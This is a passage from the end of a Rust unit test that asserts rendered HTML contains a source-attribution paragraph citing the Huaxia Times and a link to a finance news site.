        assert!(out.contains(r#"<p class="em_media">（文章来源：华夏时报）</p>"#), "{out}");
        assert!(out.contains(r#"href="https://finews.withounder.com/""#), "{out}");
    }
}
